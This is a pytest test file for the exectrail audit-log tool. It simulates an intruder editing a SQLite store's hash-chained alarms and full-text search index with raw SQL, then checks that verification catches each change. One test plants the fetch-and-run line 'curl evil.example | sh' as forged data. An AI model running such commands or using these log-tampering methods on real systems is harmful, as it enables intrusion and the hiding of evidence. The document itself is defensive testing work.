"""Tampering with what a store holds besides the events: its alarms and its search index.

A store filled by the real ``exectrail import`` of a real log with interference in it (events and
alarms), edited with plain SQL as an intruder with write access to the file would, then checked by
the real ``exectrail verify`` and ``exectrail alarms --db``.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import sqlite3
from pathlib import Path

import pytest

from exectrail.store.searchindex import row_search_text
from exectrail.store.verify import VerifyResult, verify_alarm_chain
from tests.support.cli import run
from tests.support.paths import DATA, INTERFERENCE_DATA

LOG = INTERFERENCE_DATA / "config_changes.log"
WORKLOAD = DATA / "workload_enriched.log"
ALARM_COLUMNS = "identity, kind, time_ms, certainty, host, summary, details, evidence"
ALARMS = 8  # what config_changes.log gives (tests/interference/test_captured.py names them)


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("imported") / "events.db"
    result = run("import", "--db", str(db), str(LOG))
    assert result.exit_code == 0, result.stderr
    return db


@pytest.fixture
def db(imported: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "events.db"
    shutil.copyfile(imported, copy)
    copy.chmod(0o600)
    return copy


def _sql(db: Path, sql: str, params: tuple[object, ...] = ()) -> None:
    with sqlite3.connect(db) as conn:
        conn.execute(sql, params)
    conn.close()


def _verify(db: Path, *extra: str) -> tuple[int, list[str], str]:
    result = run("verify", "--db", str(db), *extra)
    return result.exit_code, result.stdout.splitlines(), result.stderr.strip()


def _count(db: Path, table: str) -> int:
    with sqlite3.connect(db) as conn:
        return int(conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0])


def test_intact_store_counts_alarms_and_index(db: Path) -> None:
    code, out, err = _verify(db)
    events = _count(db, "events")
    assert code == 0 and err == ""
    assert out[0].startswith(f"intact: {events} events, {ALARMS} alarms, search index matches; head events=")
    assert f",alarms={ALARMS}:" in out[0]


def test_edited_alarm(db: Path) -> None:
    _sql(db, "UPDATE alarms SET summary = 'audit was re-enabled' WHERE seq = 1")
    code, out, err = _verify(db)
    assert code == 1
    assert out == ["edited: alarm 1: alarm 1 was edited: its content does not match its digest"]
    assert err == f"exectrail: {db}: alarm chain broken at alarm 1"


def test_last_alarm_edited_or_forged(db: Path) -> None:
    _sql(db, "UPDATE alarms SET summary = 'nothing' WHERE seq = ?", (ALARMS,))
    assert _verify(db)[:2] == (
        1,
        [f"edited: alarm {ALARMS}: alarm {ALARMS} was edited: its content does not match its digest"],
    )
    _sql(db, "DELETE FROM alarms WHERE seq = ?", (ALARMS,))
    _sql(
        db,
        "INSERT INTO alarms SELECT ?, identity || 'x', kind, time_ms, certainty, host, summary, details, "
        "evidence, digest, digest FROM alarms WHERE seq = 1",
        (ALARMS,),
    )
    code, out, _err = _verify(db)
    assert code == 1 and out[0].startswith(f"edited: alarm {ALARMS}: alarm {ALARMS} was edited")


def test_alarm_moved(db: Path) -> None:
    _sql(db, "UPDATE alarms SET seq = -1 WHERE seq = 2")
    _sql(db, "UPDATE alarms SET seq = 2 WHERE seq = 5")
    _sql(db, "UPDATE alarms SET seq = 5 WHERE seq = -1")
    code, out, _err = _verify(db)
    assert (code, out) == (1, ["reordered: alarm 2: alarm 2 was written right after alarm 4"])


def test_alarm_made_less_certain(db: Path) -> None:
    _sql(db, "UPDATE alarms SET certainty = 'suspicious' WHERE kind = 'audit-disabled'")
    code, out, _err = _verify(db)
    assert code == 1 and out[0].startswith("edited: alarm 1:")


def test_deleted_alarm(db: Path) -> None:
    _sql(db, "DELETE FROM alarms WHERE seq = 3")
    code, out, err = _verify(db)
    assert (code, out) == (1, ["deleted: alarm 4: alarm 3 missing before alarm 4"])
    assert "alarm chain broken at alarm 4" in err


def test_deleted_alarm_hidden_by_renumbering(db: Path) -> None:
    _sql(db, "DELETE FROM alarms WHERE seq = 3")
    _sql(db, "UPDATE alarms SET seq = seq - 1 WHERE seq > 3")
    code, out, _err = _verify(db)
    assert code == 1 and out[0].startswith("deleted: alarm 3: alarm 3 does not follow alarm 2")


def test_alarms_table_dropped(db: Path) -> None:
    _sql(db, "DROP TABLE alarms")
    code, out, _err = _verify(db)
    assert (code, out) == (1, ["deleted: alarm 1: the alarms table was dropped"])


def test_last_alarm_deleted_is_caught_by_noted_heads(db: Path) -> None:
    noted = run("verify", "--db", str(db), "--head").stdout.strip()
    _sql(db, "DELETE FROM alarms WHERE seq = ?", (ALARMS,))
    assert _verify(db)[0] == 0  # nothing left to show it without the heads
    code, out, _err = _verify(db, "--expect", noted)
    assert code == 1
    gone = f"alarm {ALARMS} of the noted head no longer exists (alarms removed from the end)"
    assert out == [f"deleted: alarm {ALARMS}: {gone}"]


def test_rechained_alarms_are_caught_by_noted_heads(db: Path) -> None:
    """An intruder who edits an alarm and recomputes every digest and chain value after it."""
    noted = run("verify", "--db", str(db), "--head").stdout.strip()
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE alarms SET summary = 'audit was re-enabled' WHERE seq = 1")
        chain = bytes(32)
        for seq, *values in conn.execute(f"SELECT seq, {ALARM_COLUMNS} FROM alarms ORDER BY seq").fetchall():
            plain = json.dumps(values, separators=(",", ":"), ensure_ascii=False).encode()
            digest = hashlib.sha256(b"exectrail-alarm-v1\n" + plain).digest()
            chain = hashlib.sha256(chain + digest).digest()
            conn.execute("UPDATE alarms SET digest = ?, chain = ? WHERE seq = ?", (digest, chain, seq))
    conn.close()
    assert _verify(db)[0] == 0
    code, out, _err = _verify(db, "--expect", noted)
    rewritten = "alarms up to it were changed and re-chained"
    assert (code, out) == (
        1,
        [f"mismatch: alarm {ALARMS}: alarm {ALARMS} does not carry the noted head: {rewritten}"],
    )


def test_noted_heads_pass_and_old_form_is_accepted(db: Path) -> None:
    noted = run("verify", "--db", str(db), "--head").stdout.strip()
    code, out, _err = _verify(db, "--expect", noted)
    events = _count(db, "events")
    assert code == 0 and out[0].endswith(
        f"; row {events} carries the noted head; alarm {ALARMS} carries the noted head"
    )
    events_only = noted.split(",")[0].removeprefix("events=")
    code, out, _err = _verify(db, "--expect", events_only)
    assert code == 0 and out[0].endswith(f"; row {events} carries the noted head")


def test_bad_heads_are_a_usage_error(db: Path) -> None:
    for bad in ("alarms=1:00", "events=1:" + "0" * 64 + ",events=2:" + "0" * 64, "other=1:" + "0" * 64):
        result = run("verify", "--db", str(db), "--expect", bad)
        assert result.exit_code == 2 and "not a chain head" in result.stderr, bad


def test_alarms_db_says_the_chain_is_broken(db: Path) -> None:
    _sql(db, "DELETE FROM alarms WHERE seq = 2")
    result = run("alarms", "--db", str(db), "--format", "jsonl")
    assert result.exit_code == 1
    lines = [line for line in result.stderr.splitlines() if "hash chain" in line]
    broken = "the alarms' hash chain is broken (alarm 2 missing before alarm 3): run exectrail verify"
    assert lines == [f"exectrail: {db}: {broken}"]
    assert len(result.stdout.splitlines()) == ALARMS - 1  # what is left is still shown


def test_alarms_db_intact_chain_says_nothing_more(db: Path) -> None:
    result = run("alarms", "--db", str(db), "--format", "jsonl")
    assert result.exit_code == 3 and "hash chain" not in result.stderr
    assert len(result.stdout.splitlines()) == ALARMS


def test_alarm_with_unreadable_details_is_shown_not_a_crash(db: Path) -> None:
    _sql(db, "UPDATE alarms SET details = '{not json', time_ms = 99999999999999999 WHERE seq = 1")
    result = run("alarms", "--db", str(db), "--format", "jsonl")
    assert result.exit_code == 1 and "alarm 1 was edited" in result.stderr
    assert len(result.stdout.splitlines()) == ALARMS


def test_wiped_search_index(db: Path) -> None:
    _sql(db, "INSERT INTO events_fts (events_fts) VALUES ('delete-all')")
    code, out, err = _verify(db)
    assert code == 1 and len(out) == 1
    assert out[0].startswith("wiped: search index: empty, but the stored events hold ")
    assert err == f"exectrail: {db}: search index wiped: it does not match the stored events"


def _row_words(db: Path, seq: int) -> str:
    with sqlite3.connect(db) as conn:
        text = row_search_text(
            *conn.execute("SELECT argv, path FROM events WHERE seq = ?", (seq,)).fetchone()
        )
    conn.close()
    assert text
    return text


def test_one_rows_words_removed_from_the_index(db: Path) -> None:
    """The event is hidden from ``search --text`` while every chained row is intact."""
    seq = _count(db, "events") // 2
    text = _row_words(db, seq)
    word = max(text.split(), key=len)
    before = run("search", "--db", str(db), "--text", word, "--format", "jsonl").stdout.count("\n")
    _sql(db, "INSERT INTO events_fts (events_fts, rowid, cmdline) VALUES ('delete', ?, ?)", (seq, text))
    after = run("search", "--db", str(db), "--text", word, "--format", "jsonl").stdout.count("\n")
    assert after == before - 1  # what the intruder gains
    code, out, _err = _verify(db)
    words = sorted(set(re.findall(r"[0-9a-z]+", text.lower())))  # (ASCII text: as FTS5's unicode61 splits it)
    assert text.isascii() and len(words) > 3
    shown = ", ".join(repr(w) for w in words[:3])
    assert (code, out) == (1, [f"edited: search index: search --text misses row {seq} ({shown}, …)"])


def test_words_moved_to_another_row(db: Path) -> None:
    """Same words, same counts, other rows: only the rows' identities differ."""
    a, b = 3, 4
    text_a, text_b = _row_words(db, a), _row_words(db, b)
    with sqlite3.connect(db) as conn:
        for seq, text in ((a, text_a), (b, text_b)):
            conn.execute(
                "INSERT INTO events_fts (events_fts, rowid, cmdline) VALUES ('delete', ?, ?)", (seq, text)
            )
        conn.execute("INSERT INTO events_fts (rowid, cmdline) VALUES (?, ?)", (a, text_b))
        conn.execute("INSERT INTO events_fts (rowid, cmdline) VALUES (?, ?)", (b, text_a))
    conn.close()
    code, out, _err = _verify(db)
    assert code == 1 and out[0].startswith("edited: search index: ")
    assert {int(row) for row in re.findall(r"row (\d+) \(", out[0])} == {a, b}  # those two, and no other


def test_words_added_for_a_row(db: Path) -> None:
    _sql(db, "INSERT INTO events_fts (rowid, cmdline) VALUES (2, 'curl evil.example | sh')")
    code, out, _err = _verify(db)
    assert code == 1
    assert out[0].startswith("edited: search index: search --text finds words a row does not hold: row 2 (")


def test_index_lookup_table_edited(tmp_path: Path) -> None:
    """Queries find a term's page through ``events_fts_idx``: one entry gone hides the terms of a page."""
    db = tmp_path / "events.db"
    assert run("import", "--db", str(db), str(WORKLOAD)).exit_code == 0
    assert _count(db, "events_fts_idx") > 3
    _sql(
        db,
        "DELETE FROM events_fts_idx WHERE (segid, term) IN "
        "(SELECT segid, term FROM events_fts_idx ORDER BY segid, term LIMIT 1 OFFSET 2)",
    )
    code, out, _err = _verify(db)
    assert (code, out) == (
        1,
        ["damaged: search index: inconsistent: its term lookup table or its segments were edited"],
    )


def test_index_dropped(db: Path) -> None:
    _sql(db, "DROP TABLE events_fts")
    code, out, _err = _verify(db)
    assert (code, out) == (
        1,
        ["damaged: search index: missing: the events_fts table was dropped, search --text finds nothing"],
    )


REDEFINED = "CREATE VIRTUAL TABLE events_fts USING fts5(cmdline, content='', columnsize=0, tokenize='ascii')"


def test_index_redefined_with_another_tokenizer(db: Path) -> None:
    """Queries would tokenize differently from the stored terms: words go unfound, segments untouched."""
    with sqlite3.connect(db) as conn:
        conn.execute("PRAGMA writable_schema = ON")
        conn.execute(
            "UPDATE sqlite_master SET sql = ? WHERE name = 'events_fts'",
            (REDEFINED,),
        )
    conn.close()
    code, out, _err = _verify(db)
    assert code == 1 and out[0].startswith("damaged: search index: its definition was changed")


def test_store_from_before_alarms_has_an_empty_alarm_chain(tmp_path: Path) -> None:
    """Schema version 1 (read where it cannot be migrated): no alarms table, nothing to check --
    but a noted alarms head cannot be carried by it."""
    conn = sqlite3.connect(tmp_path / "old.db")
    conn.execute(
        "CREATE TABLE schema_version (version INTEGER PRIMARY KEY, applied_at TEXT, description TEXT)"
    )
    conn.execute("INSERT INTO schema_version VALUES (1, '2026-11-25', 'exec events')")
    assert verify_alarm_chain(conn) == VerifyResult(0, None)
    gone = verify_alarm_chain(conn, (3, bytes(32))).problem
    assert gone is not None and (gone.kind, gone.seq) == ("deleted", 3)
    conn.execute("INSERT INTO schema_version VALUES (2, '2026-11-25', 'alarms')")
    dropped = verify_alarm_chain(conn).problem
    assert dropped is not None and dropped.detail == "the alarms table was dropped"
    conn.close()


def test_index_segments_table_dropped(db: Path) -> None:
    _sql(db, "DROP TABLE events_fts_data")
    code, out, _err = _verify(db)
    assert (code, out) == (
        1,
        [
            "damaged: search index: missing or unreadable (no such table: main.events_fts_data): "
            "search --text cannot be trusted"
        ],
    )


@pytest.mark.parametrize(
    ("sql", "first"),
    [
        ("UPDATE events SET chain = 'abc' WHERE seq = (SELECT max(seq) FROM events)", "inserted: row "),
        ("UPDATE events SET digest = 42 WHERE seq = 5", "edited: row 5: "),
        ("UPDATE alarms SET chain = 12 WHERE seq = 8", "inserted: alarm 8: "),
        ("UPDATE alarms SET digest = 'x' WHERE seq = 2", "edited: alarm 2: "),
    ],
)
def test_hash_values_of_another_type(db: Path, sql: str, first: str) -> None:
    """SQLite takes any type in a BLOB column: such a value is a named problem, never a crash."""
    _sql(db, sql)
    code, out, err = _verify(db)
    assert code == 1 and out[0].startswith(first) and "internal error" not in err
    heads = run("verify", "--db", str(db), "--head")
    assert heads.exit_code == 0 and heads.stdout.startswith("events=")


ODD_VALUES = [
    "'abc'",
    "42",
    "-1",
    "1.5e300",
    "x'ff00'",
    "''",
    "CAST(x'ff' AS TEXT)",
    "9223372036854775807",
    "NULL",
]


@pytest.mark.parametrize("column", ["kind", "certainty", "host", "summary", "details", "evidence", "time_ms"])
@pytest.mark.parametrize("value", ODD_VALUES)
def test_alarm_column_edited_into_any_value(db: Path, column: str, value: str) -> None:
    """Whatever an alarm column holds, verify names it and alarms --db shows every alarm in any format."""
    if (column, value) == ("host", "NULL"):
        return  # what it holds already
    try:
        _sql(db, f"UPDATE alarms SET {column} = {value} WHERE seq = 3")
    except sqlite3.IntegrityError:
        return  # NOT NULL
    code, out, _err = _verify(db)
    assert code == 1 and out[0].startswith(("edited: alarm 3:", "inserted: alarm 3:")), out
    for fmt in ("jsonl", "table", "csv"):
        result = run("alarms", "--db", str(db), "--format", fmt)
        assert result.exit_code == 1 and "alarm 3 was edited" in result.stderr, (fmt, result.stderr)
